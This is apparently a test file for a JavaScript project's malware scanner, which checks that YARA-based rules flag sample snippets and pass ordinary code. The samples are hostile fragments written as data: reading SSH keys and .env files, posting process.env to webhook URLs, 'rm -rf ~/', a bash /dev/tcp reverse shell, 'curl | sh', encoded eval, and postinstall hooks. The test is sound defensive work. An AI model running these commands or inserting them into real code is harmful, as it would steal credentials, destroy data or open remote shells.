import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

const root = path.resolve(__dirname, '../..');

/** For each rule of `scripts/threats.yar`, what malware contains. */
const samples: Record<string, string[]> = {
	sensitive_file: [
		'// for example ../../etc/passwd',
		"read(home + '/.ssh/id_rsa')",
		"load('.env.local')",
		"'~/.npmrc'",
	],
	environment: ['send(process.env.NPM_TOKEN)', 'JSON.stringify(process.env)'],
	destruction: ["run('rm -rf ~/')", 'rmSync(os.homedir())'],
	autostart: ["append('.bashrc')", "'/Library/LaunchAgents/a.plist'"],
	exfiltration_address: [
		"post('https://webhook.site/1')",
		"'https://discord.com/api/webhooks/1'",
		"'https://bit.ly/1'",
	],
	internet_address: ["get('http://203.0.113.7/a')"],
	name_server: ['dns.lookup(`${secret}.example.com`)'],
	reverse_shell: ["run('bash -i >& /dev/tcp/host/1')", 'socket.pipe(shell.stdin)'],
	process: ["require('child_process')", "run('curl https://example.com/a | sh')"],
	mining: ["'stratum+tcp://pool'"],
	generated_code: ["eval(atob('YQ=='))", 'new Function(text)()'],
	obfuscation: [
		'const _0x1a2b = _0x3c4d(_0x5e6f);',
		`a;${' '.repeat(400)}b;`,
		`'${'\\x61'.repeat(20)}'`,
		'if (admin\u202e) {}',
		'const p\u0430ss = 1;',
	],
	system_information: ['os.hostname()', "import os from 'os'"],
	input: ["require('iohook')", "'/proc/self/mem'"],
	propagation: ["run('npm publish')", '_authToken'],
	install_script: ['{ "scripts": { "postinstall": "node a.js" } }'],
	dependency: ['{ "dependencies": { "a": "git+ssh://git@example.com/a.git" } }'],
};

/** What the search finds in files, as `file rule`. */
function found(files: Record<string, string>): string[] {
	const folder = mkdtempSync(path.join(tmpdir(), 'sinao-threats-'));
	try {
		for (const [name, text] of Object.entries(files)) {
			mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
			writeFileSync(path.join(folder, name), text);
		}
		const search = ['node_modules/.bin/tsx', 'scripts/threats.ts', folder];
		try {
			return linesOf(execFileSync(search[0], search.slice(1), { cwd: root, encoding: 'utf8' }));
		} catch (error) {
			const { status, stdout } = error as { status: number; stdout: string };
			expect(status).toBe(1);
			return linesOf(stdout);
		}
	} finally {
		rmSync(folder, { recursive: true });
	}
}

function linesOf(output: string): string[] {
	return [...output.matchAll(/^(\S+):\d+ threat_(\w+):/gm)].map(
		([, file, rule]) => `${file} ${rule}`,
	);
}

const isManifest = (rule: string) => ['install_script', 'dependency'].includes(rule);

describe('The search for threats', () => {
	it('finds every sample with the rule for it, in the file in which it can occur', () => {
		const expected = Object.entries(samples).flatMap(([rule, texts]) =>
			texts.map((text, index) => ({
				file: `${rule}${index}/${isManifest(rule) ? 'package.json' : 'a.js'}`,
				rule,
				text,
			})),
		);
		const findings = found(Object.fromEntries(expected.map(({ file, text }) => [file, text])));
		expect(expected.filter(({ file, rule }) => !findings.includes(`${file} ${rule}`))).toEqual([]);
	});

	it('has a sample for each rule', () => {
		const rules = readFileSync(path.join(root, 'scripts/threats.yar'), 'utf8');
		expect([...rules.matchAll(/^rule threat_(\w+)/gm)].map(([, rule]) => rule)).toEqual(
			Object.keys(samples),
		);
	});

	it('accepts usual code of a node', () => {
		expect(
			found({
				'a.js': [
					"const { createHash } = require('crypto');",
					"const url = 'https://api.sinao.app/v1';",
					'/** Réglé, échéance, n° 12, 1 234,50 €; the environment of a company. */',
					'const key = credentials.apiKey;',
				].join('\n'),
				'package.json': readFileSync(path.join(root, 'package.json'), 'utf8'),
			}),
		).toEqual([]);
	});
});
